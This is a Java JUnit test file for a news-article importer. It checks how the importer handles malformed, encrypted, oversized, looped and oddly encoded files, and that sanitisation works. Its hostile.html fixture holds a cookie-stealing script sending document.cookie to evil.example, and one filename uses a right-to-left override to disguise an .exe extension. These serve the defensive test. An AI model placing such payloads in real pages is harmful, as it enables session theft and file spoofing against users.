package org.crosscheck.faults;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.crosscheck.AppContext;
import org.crosscheck.Launcher;
import org.crosscheck.ingest.ImportFailure;
import org.crosscheck.model.ArticleSummary;
import org.crosscheck.task.Progress;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A folder of bad and awkward files — empty, blank, binary, huge, odd encodings, hostile HTML, broken and
 * encrypted PDFs, strange names, link loops, a named pipe — imported together with good files. Each bad file gets
 * exactly one plain reason naming it; awkward but readable files import; the good ones import; memory stays
 * bounded (the CLI run has a 128 MB heap next to a 200 MB file). The files are made at test time: a 200 MB file,
 * a link loop and a pipe do not belong in git.
 */
class BadInputTest {

    private static final String ARABIC = "قالت مصادر محلية إن ثلاثة صواريخ سقطت على قاعدة التنف يوم الجمعة.";
    private static final String FRENCH = "Trois roquettes ont frappé la base d'Al-Tanf vendredi, selon des sources locales; aucun dégât signalé.";

    @TempDir
    Path folder;
    Path inbox;
    /** File name -> the words its one failure reason must contain. */
    final Map<String, String> refused = new LinkedHashMap<>();
    /** File name -> a piece of text the stored article must contain. */
    final Map<String, String> accepted = new LinkedHashMap<>();

    @BeforeEach
    void fillTheInbox() throws Exception {
        inbox = Files.createDirectories(folder.resolve("inbox"));
        refuse("empty.txt", new byte[0], "empty");
        refuse("whitespace-only.txt", " \n\t  \r\n\u00a0\n".getBytes(StandardCharsets.UTF_8), "no text");
        refuse("picture-named.txt", pngLikeBytes(), "binary");
        refuse("scripts-only.html", "<html><head><script>document.write('x')</script><style>p{}</style></head><body>  </body></html>"
                .getBytes(StandardCharsets.UTF_8), "no text");
        refuse("corrupt.pdf", "%PDF-1.7\n1 0 obj << /Type /Catalog garbage".getBytes(StandardCharsets.US_ASCII), "PDF");
        refuse("encrypted.pdf", encryptedPdf(), "password");
        refuse("image-only.pdf", blankPdf(), "no text layer");
        refuse("report.docx", "PK not really a docx".getBytes(StandardCharsets.US_ASCII), "cannot read this type");
        hugeTextFile(inbox.resolve("corpus-dump.txt"), 200L * 1024 * 1024);
        refused.put("corpus-dump.txt", "larger than");
        Files.createSymbolicLink(inbox.resolve("dangling.txt"), inbox.resolve("gone.txt"));
        refused.put("dangling.txt", "broken link");
        Files.createSymbolicLink(inbox.resolve("self-link.txt"), inbox.resolve("self-link.txt"));
        refused.put("self-link.txt", "link");
        var loop = Files.createDirectories(inbox.resolve("loop"));
        Files.createSymbolicLink(loop.resolve("back-to-inbox"), inbox);
        refused.put("back-to-inbox", "links back");
        new ProcessBuilder("mkfifo", inbox.resolve("named-pipe.txt").toString()).start().waitFor(10, TimeUnit.SECONDS);
        refused.put("named-pipe.txt", "not a regular file");

        accept("good-english.txt", "Two drones targeted the Conoco base on Friday, the Pentagon said.".getBytes(StandardCharsets.UTF_8),
                "Two drones targeted the Conoco base");
        accept("utf16-le.txt", withBom(new byte[] {(byte) 0xFF, (byte) 0xFE}, ARABIC.getBytes(StandardCharsets.UTF_16LE)), ARABIC);
        accept("utf16-be.txt", withBom(new byte[] {(byte) 0xFE, (byte) 0xFF}, FRENCH.getBytes(StandardCharsets.UTF_16BE)), FRENCH);
        accept("utf8-bom.txt", withBom(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                "Rockets hit Ain al-Asad air base, officials said.".getBytes(StandardCharsets.UTF_8)), "Rockets hit Ain al-Asad");
        accept("windows-1256.txt", (ARABIC + "\n" + ARABIC.replace("التنف", "الشدادي")).getBytes(Charset.forName("windows-1256")), ARABIC);
        accept("latin-1.txt", ("Dépêche de l'après-midi. " + FRENCH).getBytes(StandardCharsets.ISO_8859_1), "Dépêche de l'après-midi");
        accept("invalid-utf8.txt", invalidUtf8(), "Mortar shells landed near Tower 22");
        accept("hostile.html", ("<html><head><title>Strike on Al-Omar</title><script>fetch('http://evil.example/'+document.cookie)</script>"
                + "<style>body{display:none}</style></head><body onload=\"alert(1)\"><p>A drone hit the Al-Omar field on Sunday.</p>"
                + "<iframe src=\"http://evil.example\"></iframe><noscript>enable js</noscript></body></html>").getBytes(StandardCharsets.UTF_8),
                "A drone hit the Al-Omar field");
        accept("deeply-nested.html", ("<div>".repeat(20_000) + "<p>Rockets struck the Rumeilan landing zone.</p>" + "</div>".repeat(20_000))
                .getBytes(StandardCharsets.UTF_8), "Rockets struck the Rumeilan landing zone");
        accept("..double..dots...txt", "Dots in a name are allowed: a rocket hit Kharab al-Jir.".getBytes(StandardCharsets.UTF_8),
                "a rocket hit Kharab al-Jir");
        accept("تقرير \u202Etxt.exe\u202C 🚀 Ame\u0301lie.txt", "Odd Unicode name: drones over al-Shaddadi.".getBytes(StandardCharsets.UTF_8),
                "drones over al-Shaddadi");
        accept("long-" + "x".repeat(240) + ".txt", "A very long name: shelling near Qasrak.".getBytes(StandardCharsets.UTF_8),
                "shelling near Qasrak");
        accept("windows-line-ends.md", "# Attack\r\n\r\nA drone attack on Tower 22 was reported.\r\n".getBytes(StandardCharsets.UTF_8),
                "A drone attack on Tower 22");
        refuse("stray-nul.txt", "A drone\u0000 attack on Tower 22\u0000\u0000 was reported.".getBytes(StandardCharsets.UTF_8), "binary");
        Files.createDirectories(inbox.resolve("folder-named.txt"));
    }

    @Test
    void everyBadFileGetsOnePlainReasonAndEveryReadableFileImports() throws Exception {
        var paths = new ArrayList<Path>(List.of(inbox));
        paths.add(inbox.resolve("report.docx"));
        try (var context = AppContext.open(folder.resolve("bad-input.mv.db"))) {
            var report = context.importer().importPaths(paths, Progress.NONE);

            for (var entry : refused.entrySet()) {
                var failures = report.failures().stream()
                        .filter(failure -> failure.file().getFileName().toString().equals(entry.getKey())).toList();
                assertThat(failures).as("failures for %s in %s", entry.getKey(), report.failures()).hasSize(1);
                assertThat(failures.get(0).reason()).as(entry.getKey()).containsIgnoringCase(entry.getValue())
                        .doesNotContain("Exception").endsWith(".");
            }
            assertThat(report.failures()).extracting(ImportFailure::file).extracting(file -> file.getFileName().toString())
                    .containsExactlyInAnyOrderElementsOf(refused.keySet());
            assertThat(report.imported()).extracting(ArticleSummary::fileName).containsExactlyInAnyOrderElementsOf(accepted.keySet());
            for (var summary : report.imported()) {
                var article = context.articles().find(summary.id()).orElseThrow();
                assertThat(article.text()).as(article.fileName()).contains(accepted.get(article.fileName()))
                        .doesNotContain("evil.example", "alert(", "enable js", "\u0000", "\r");
            }
        }
    }

    @Test
    void theCommandLineImportsTheFolderInBoundedMemoryWithOneLinePerBadFile() throws Exception {
        var db = folder.resolve("cli.mv.db");
        try (var child = ChildJvm.startWithHeap("128m", Launcher.class, "import", inbox.toString(),
                inbox.resolve("report.docx").toString(), "--db", db.toString())) {
            assertThat(child.waitFor(180)).as("stderr: %s", child.err()).isZero();
            var lines = child.out();
            assertThat(lines.get(lines.size() - 1)).isEqualTo("imported " + accepted.size() + ", duplicates 0, failed "
                    + refused.size());
            assertThat(lines.subList(0, lines.size() - 1)).hasSize(refused.size()).allMatch(line -> line.startsWith("failed: "));
            assertThat(child.err()).noneMatch(line -> line.contains("OutOfMemoryError") || line.contains("Exception"));
        }
    }

    private void refuse(String name, byte[] content, String reason) throws IOException {
        Files.write(inbox.resolve(name), content);
        refused.put(name, reason);
    }

    private void accept(String name, byte[] content, String expectedText) throws IOException {
        Files.write(inbox.resolve(name), content);
        accepted.put(name, expectedText);
    }

    private static byte[] withBom(byte[] bom, byte[] body) {
        var all = new byte[bom.length + body.length];
        System.arraycopy(bom, 0, all, 0, bom.length);
        System.arraycopy(body, 0, all, bom.length, body.length);
        return all;
    }

    private static byte[] pngLikeBytes() {
        var bytes = new byte[4096];
        var random = new java.util.Random(3);
        random.nextBytes(bytes);
        System.arraycopy(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 0x0D}, 0, bytes, 0, 12);
        return bytes;
    }

    private static byte[] invalidUtf8() {
        var out = new java.io.ByteArrayOutputStream();
        out.writeBytes("Mortar shells landed near Tower 22 ".getBytes(StandardCharsets.UTF_8));
        out.writeBytes(new byte[] {(byte) 0xC3, 0x28, (byte) 0xA0, (byte) 0xFF});
        out.writeBytes(" on Tuesday — the base said no damage was done; ".getBytes(StandardCharsets.UTF_8));
        out.writeBytes("un responsable a parlé d'une « attaque ratée ».".getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private static void hugeTextFile(Path file, long bytes) throws IOException {
        var line = "Rockets were reported near the base again, according to local sources, on an unknown day.\n";
        try (BufferedWriter writer = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            for (long written = 0; written < bytes; written += line.length()) {
                writer.write(line);
            }
        }
    }

    private static byte[] encryptedPdf() throws IOException {
        try (var document = textPdf("Secret report: drones struck the Conoco base.")) {
            var policy = new StandardProtectionPolicy("owner-secret", "user-secret", new AccessPermission());
            policy.setEncryptionKeyLength(128);
            document.protect(policy);
            var out = new java.io.ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        }
    }

    private static byte[] blankPdf() throws IOException {
        try (var document = new PDDocument()) {
            document.addPage(new PDPage());
            var out = new java.io.ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        }
    }

    private static PDDocument textPdf(String text) throws IOException {
        var document = new PDDocument();
        var page = new PDPage();
        document.addPage(page);
        try (var stream = new PDPageContentStream(document, page)) {
            stream.beginText();
            stream.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
            stream.newLineAtOffset(72, 700);
            stream.showText(text);
            stream.endText();
        }
        return document;
    }
}
